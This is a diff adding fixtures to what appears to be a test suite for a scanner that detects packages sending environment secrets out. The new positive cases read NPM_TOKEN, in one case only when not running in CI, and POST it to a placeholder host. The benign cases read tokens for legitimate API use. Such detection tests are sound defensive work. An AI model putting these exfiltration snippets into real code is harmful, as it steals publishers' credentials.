@@ -121,6 +121,20 @@ examine(sendsEnvironment, {
       weight: 'context',
     },
     {
+      when: 'a token is kept under the name of another variable, for where that is not set',
+      files: {
+        'index.js': `const key = process.env.SPECIMEN_MODE || process.env.NPM_TOKEN; fetch('https://collect.invalid/', { method: 'POST', body: key })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'or for where it is',
+      files: {
+        'index.js': `const key = process.env.CI ? process.env.SPECIMEN_MODE : process.env.NPM_TOKEN; fetch('https://collect.invalid/', { method: 'POST', body: key })`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'one of the names is that of a key for something else',
       files: {
         'index.js': `fetch('https://api.acme.invalid/v1', { headers: { authorization: process.env.ACME_SECRET || process.env.NPM_TOKEN || process.env.SECRET_KEY } })`,
@@ -318,6 +332,18 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
     },
   ],
   silent: [
+    {
+      when: 'a client of GitHub takes the token under either of its names',
+      files: {
+        'index.js': `const token = process.env.GH_TOKEN || process.env.GITHUB_TOKEN; fetch('https://api.github.com/user', { headers: { authorization: 'token ' + token } })`,
+      },
+    },
+    {
+      when: 'a mode is told, where none is set another',
+      files: {
+        'index.js': `const mode = process.env.SPECIMEN_MODE || process.env.NODE_ENV || 'production'; fetch('https://status.invalid/?mode=' + mode)`,
+      },
+    },
     {
       when: 'a client asks the system that it runs in for its own key by name',
       files: {
